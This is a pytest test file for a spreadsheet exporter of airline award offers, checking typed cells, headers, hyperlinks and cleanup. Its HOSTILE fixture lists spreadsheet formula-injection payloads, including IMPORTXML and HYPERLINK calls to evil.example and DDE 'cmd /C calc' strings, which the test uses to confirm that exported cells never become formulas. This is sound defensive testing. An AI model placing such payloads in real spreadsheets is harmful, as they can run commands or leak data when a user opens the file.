"""The local XLSX sink: the file reopened with openpyxl holds typed cells and never a formula."""

from __future__ import annotations

import json
import zipfile
from datetime import UTC, date, datetime
from pathlib import Path
from typing import Any

import pytest
import sqlite_utils
from openpyxl import load_workbook

from offers.model import Offer
from settings.config import DedupeSettings
from storage.db import connect, insert, transaction
from storage.events import observe
from storage.spreadsheet import CURRENT_COLUMNS, OFFERS_COLUMNS, RUNS_COLUMNS, LocalSpreadsheet

NOW = datetime(2025, 6, 1, 12, 30, tzinfo=UTC)
HOSTILE = [
    '=IMPORTXML("http://evil.example/x","//a")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
]


@pytest.fixture
def db(tmp_path: Path) -> sqlite_utils.Database:
    return connect(tmp_path / "t.db")


def offer(n: int, **changes: Any) -> Offer:
    values: dict[str, Any] = {
        "source": "united-deals", "program": "united", "title": f"Saver award {n}",
        "airline": "United", "origin": "SFO", "destination": "NRT",
        "depart_date": date(2025, 9, 1 + n), "cabin": "business", "miles": 60_000 + n,
        "taxes": 5.6, "currency": "USD", "promo": True, "promo_reason": "sale",
        "book_by": date(2025, 6, 30), "url": f"https://www.united.com/award/{n}",
    }  # fmt: skip
    return Offer(**(values | changes))


def record(db: sqlite_utils.Database, offers: list[Offer], *, source: str = "united-deals",
           message: str = "", rules: list[str] | None = None) -> None:  # fmt: skip
    with transaction(db):
        run_id = insert(db, "runs", {
            "source": source, "started": NOW.isoformat(), "finished": NOW.isoformat(),
            "status": "ok", "items": len(offers), "offers": len(offers), "events": len(offers),
            "rejected": "{}", "errors": 0, "message": message, "duration": 1.0,
        })  # fmt: skip
        for item in offers:
            observe(db, item, rules=rules or ["cheap"], run_id=run_id, now=NOW,
                    settings=DedupeSettings())  # fmt: skip


def by_header(sheet: Any) -> list[dict[str, Any]]:
    header = [c.value for c in sheet[1]]
    return [dict(zip(header, row, strict=True)) for row in sheet.iter_rows(min_row=2)]


def test_hostile_text_stays_text_in_every_column(db, tmp_path):
    record(
        db,
        [offer(n, source=text, title=text, airline=text, origin=f"X{n}", destination=text,
               promo_reason=text, url=text) for n, text in enumerate(HOSTILE)],
        source=HOSTILE[1], message=HOSTILE[0], rules=[HOSTILE[2]],
    )  # fmt: skip
    path = tmp_path / "offers.xlsx"

    LocalSpreadsheet(path).write(db)

    book = load_workbook(path)
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    offers = by_header(book["Offers"])
    for column in ("source", "title", "airline", "destination", "promo_reason", "url"):
        assert sorted(row[column].value for row in offers) == sorted(HOSTILE)
    assert {row["rules"].value for row in offers} == {HOSTILE[2]}
    assert not [row["url"].hyperlink for row in offers if row["url"].hyperlink]
    assert by_header(book["Runs"])[0]["message"].value == HOSTILE[0]
    # The file itself: no formula element anywhere, so no spreadsheet program evaluates one.
    with zipfile.ZipFile(path) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets and not [n for n in sheets if b"<f>" in archive.read(n)]


def test_cells_are_typed_with_a_frozen_bold_header(db, tmp_path):
    record(db, [offer(1), offer(2, program="aeroplan", miles=30_000)])
    path = tmp_path / "offers.xlsx"

    assert LocalSpreadsheet(path).write(db) == 2

    book = load_workbook(path)
    assert book.sheetnames == ["Offers", "Current", "Runs"]
    for sheet, columns in zip(
        book.worksheets, (OFFERS_COLUMNS, CURRENT_COLUMNS, RUNS_COLUMNS), strict=True
    ):
        assert [c.value for c in sheet[1]] == columns
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold
    first = by_header(book["Offers"])[0]
    assert first["event_id"].value == 1 and first["miles"].value == 60_001
    assert first["depart_date"].is_date and first["depart_date"].value == datetime(2025, 9, 2)
    assert first["at"].value == datetime(2025, 6, 1, 12, 30)
    assert first["url"].hyperlink.target == "https://www.united.com/award/1"
    assert json.loads(json.dumps(first["promo"].value)) is True
    current = by_header(book["Current"])
    assert [r["program"].value for r in current] == ["aeroplan", "united"]


def test_control_characters_do_not_break_the_file(db, tmp_path):
    record(db, [offer(1, title="Sale\x07 ends\x1b soon")])
    path = tmp_path / "offers.xlsx"

    LocalSpreadsheet(path).write(db)

    assert by_header(load_workbook(path)["Offers"])[0]["title"].value == "Sale ends soon"


def test_a_half_written_file_from_a_killed_pass_is_removed_on_start(db, tmp_path):
    path = tmp_path / "offers.xlsx"
    record(db, [offer(1)])
    LocalSpreadsheet(path).write(db)
    leftover = tmp_path / ".offers.xlsx.k3j2a1.tmp"
    leftover.write_bytes(b"PK\x03\x04 half a zip")
    unrelated = tmp_path / "notes.tmp"
    unrelated.write_text("not ours")
    LocalSpreadsheet(path)
    assert not leftover.exists() and unrelated.exists() and path.exists()


def test_every_event_gets_its_own_row(db, tmp_path):
    record(db, [offer(n) for n in range(30)])
    path = tmp_path / "offers.xlsx"
    assert LocalSpreadsheet(path).write(db) == 30
    rows = by_header(load_workbook(path)["Offers"])
    assert [row["title"].value for row in rows] == [f"Saver award {n}" for n in range(30)]


def test_the_runs_sheet_keeps_the_latest_runs(db, tmp_path):
    for n in range(7):
        record(db, [offer(n)], message=f"run {n}")
    path = tmp_path / "offers.xlsx"
    assert LocalSpreadsheet(path, runs_kept=3).write(db) == 7
    book = load_workbook(path)
    assert [row["message"].value for row in by_header(book["Runs"])] == ["run 4", "run 5", "run 6"]
    assert len(by_header(book["Offers"])) == 7  # every event stays
    assert db.execute("SELECT count(*) FROM runs").fetchone()[0] == 7


def test_links_stop_at_what_excel_opens_and_urls_stay(db, tmp_path, monkeypatch):
    monkeypatch.setattr("storage.spreadsheet.MAX_LINKS", 3)
    record(db, [offer(n) for n in range(5)])
    path = tmp_path / "offers.xlsx"
    LocalSpreadsheet(path).write(db)
    book = load_workbook(path)
    offers, live = by_header(book["Offers"]), by_header(book["Current"])
    # the history's newest events keep theirs; the live offers from the top
    assert [bool(row["url"].hyperlink) for row in offers] == [False, False, True, True, True]
    assert [bool(row["url"].hyperlink) for row in live] == [True, True, True, False, False]
    assert all(row["url"].value.startswith("https://") for row in offers + live)
